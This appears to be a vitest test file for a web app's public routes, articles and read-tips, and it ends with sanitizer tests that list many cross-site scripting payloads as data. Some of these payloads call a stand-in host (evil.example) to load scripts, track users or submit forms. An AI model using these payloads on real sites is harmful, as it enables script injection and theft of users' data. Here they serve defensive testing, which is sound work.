import * as home from '@assay/wire/routes/home.ts'
import { getTips, markTipRead } from '@assay/wire/routes/member/user.ts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sendRequest } from '../../testing/send.ts'
import { startTestServer, type TestServer } from '../../testing/testServer.ts'
import { createArticles, sanitizeBody } from './articles.ts'
import { ownVersion, readChanges } from './servedApp.ts'

let server: TestServer
beforeAll(async () => {
  server = await startTestServer()
})
afterAll(() => server.stop())

describe('before anyone is signed in', () => {
  it('returns the time in milliseconds (NET-16)', async () => {
    const before = Date.now()
    const time = await server.visitor().call(home.getSystemTime, {})
    expect(time).toBeGreaterThanOrEqual(before)
    expect(time).toBeLessThanOrEqual(Date.now())
  })

  it('has banners, area codes, versions and who runs it (HOME-02, HOME-04, HOME-11, HOME-12, HELP-09)', async () => {
    const visitor = server.visitor()
    const banners = await visitor.call(home.getBanners, { placement: 'app' })
    expect(banners.length).toBeGreaterThan(0)
    expect(banners.map(({ link }) => link)).not.toContain('/ieo')
    for (const { link, image } of banners)
      expect(`${link}${image}`).toMatch(/^\/\w+\/banners\/\w+\.svg$/)
    const invitations = await Promise.all(
      ['EN', 'DE', 'JP'].map(async (locale) => {
        const { body } = await sendRequest(server.origin, home.getBanners, {
          input: { type: 'app' },
          headers: { locale },
        })
        return (body.data as { link: string; title: string }[]).find(
          ({ link }) => link === '/inviteFriends',
        )?.title
      }),
    )
    expect(new Set(invitations).size).toBe(3)
    const codes = await visitor.call(home.getAreaCodes, {})
    expect(codes.find(({ region }) => region === 'DE')).toMatchObject({ dialCode: '+49' })
    expect(await visitor.call(home.getVersions, {})).toMatchObject({ isDemo: false })
    expect(await visitor.call(home.getAbout, {})).toMatchObject({
      supportUrl: 'https://support.example',
      walletFallbackUrl: 'https://wallets.example/start',
      website: 'http://assay.test',
    })
  })

  it('carries where support is under its name (HOME-20)', async () => {
    const { body } = await sendRequest(server.origin, home.getAbout)
    expect(body.data).toMatchObject({ LINEURL: 'https://support.example' })
  })

  it('returns which build of the app is served, and what is new in it (UPD-05)', async () => {
    const ask = async (locale: string) => {
      const { body } = await sendRequest(server.origin, home.getVersions, { headers: { locale } })
      return body.data as { version: string; code: number; force: boolean; content: string[] }
    }
    // This server has no built app: it has a version, and no update.
    expect(await ask('EN')).toMatchObject({ version: ownVersion(), code: 0, force: false })
    expect((await ask('DE')).content).toEqual(readChanges().lines.de)
  })

  it('answers a wrong type of banner or article with a refusal', async () => {
    for (const [route, type] of [
      [home.getBanners, 'x'],
      [home.getArticles, 'tip'],
    ] as const) {
      const { status, body } = await sendRequest(server.origin, route, { input: { type } })
      expect([status, body.reason]).toEqual([400, 'malformedRequest'])
    }
  })
})

describe('articles (HELP-08, HELP-13, HELP-14)', () => {
  it('come newest first, in the language asked for or English, and not before their time', async () => {
    const articles = createArticles(server.pool)
    const text = (title: string) => ({ title, body: `<p>${title}</p>` })
    const notice = { kind: 'notice', publishedAt: 1_000 } as const
    await articles.publish({ ...notice, id: 1, texts: { en: text('One'), de: text('Eins') } })
    await articles.publish({ ...notice, id: 2, publishedAt: 2_000, texts: { en: text('Two') } })
    await articles.publish({
      ...notice,
      id: 3,
      publishedAt: Date.now() + 60_000,
      texts: { en: text('Soon') },
    })
    await articles.publish({ ...notice, id: 4, kind: 'help', texts: { en: text('Help') } })
    const titles = async (type: string, locale: string) => {
      const { body } = await sendRequest(server.origin, home.getArticles, {
        headers: { locale },
        input: { type },
      })
      return (body.data as { title: string }[]).map(({ title }) => title)
    }
    expect(await titles('notice', 'DE')).toEqual(['Two', 'Eins'])
    expect(await titles('notice', 'JP')).toEqual(['Two', 'One'])
    expect(await titles('help', 'EN')).toEqual(['Help'])
  })
})

describe('messages at the guard (HOME-15, HOME-16, HOME-20)', () => {
  it('show to whom they are meant until they were read', async () => {
    const articles = createArticles(server.pool)
    const [member, other] = [await server.member(), await server.member()]
    const tip = { kind: 'tip', publishedAt: 1_000 } as const
    const texts = {
      en: { title: 'Hello', body: '<p>Hi</p>' },
      de: { title: 'Hallo', body: '<p>Hi</p>' },
    }
    await articles.publish({ ...tip, id: 10, texts })
    await articles.publish({ ...tip, id: 11, member: member.id, texts })
    const idsOf = async (client: typeof member.client) => {
      const { personal, general } = await client.call(getTips, {})
      return [personal, general].map((tips) => tips.map(({ id }) => id))
    }
    expect(await idsOf(server.visitor())).toEqual([[], [10]])
    expect(await idsOf(other.client)).toEqual([[], [10]])
    expect(await idsOf(member.client)).toEqual([[11], [10]])
    // Under the names that they have on the wire (HOME-20).
    const { body } = await sendRequest(server.origin, getTips, { headers: member.headers })
    expect(body.data).toMatchObject({ oneTips: [{ id: 11 }], allTips: [{ id: 10 }] })
    await member.client.call(markTipRead, { id: 11 })
    await member.client.call(markTipRead, { id: 11 })
    await member.client.call(markTipRead, { id: 10 })
    expect(await idsOf(member.client)).toEqual([[], []])
    expect(await idsOf(other.client)).toEqual([[], [10]])
    // Neither another member's message nor one that does not exist can be marked.
    await other.client.call(markTipRead, { id: 11 })
    await other.client.call(markTipRead, { id: 999 })
    const { rows } = await server.pool.query('SELECT article FROM tip_read WHERE member = $1', [
      other.id,
    ])
    expect(rows).toEqual([])
  })
})

describe('what an article may contain', () => {
  it('keeps ordinary text, tables, our images and safe links', () => {
    const body = '<h2>Fees</h2><p>A <b>maker</b> pays <i>less</i>.<br /></p><ul><li>one</li></ul>'
    expect(sanitizeBody(body)).toBe(body)
    expect(sanitizeBody('<img src="/img/0af.jpg" alt="x">')).toBe(
      '<img src="/img/0af.jpg" alt="x" />',
    )
    expect(sanitizeBody('<a href="https://assay.example/x">x</a>')).toBe(
      '<a href="https://assay.example/x" rel="noopener noreferrer" target="_blank">x</a>',
    )
  })

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img src="/img/x.jpg" onload="alert(1)">',
    '<svg onload=alert(1)><animate onbegin=alert(1) /></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="http://insecure.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="pin"><button formaction="javascript:x">go</button></form>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle=alert(1)>x</details>',
    '<b/onmouseover=alert(1)>x</b>',
    '<<script>alert(1);//<</script>',
    '<p>x<!-- --!><img src=x onerror=alert(1)> --></p>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><script>alert(1)</script></textarea>',
    '\u003cscript\u003ealert(1)\u003c/script\u003e',
  ])('never %s', (attack) => {
    const clean = sanitizeBody(`<p>before</p>${attack}`)
    expect(clean).toContain('before')
    // What remains is text or one of the few allowed tags, without a handler, script, style or
    // foreign URL.
    const tags = clean.match(/<[^>]*>/g) ?? []
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?(p|b|a|img|br|table|tbody|ul|li)\b/)
      expect(tag).not.toMatch(/\son\w+=|style=|javascript:|data:|evil|insecure|srcdoc|formaction/i)
    }
    expect(sanitizeBody(clean)).toBe(clean)
  })
})
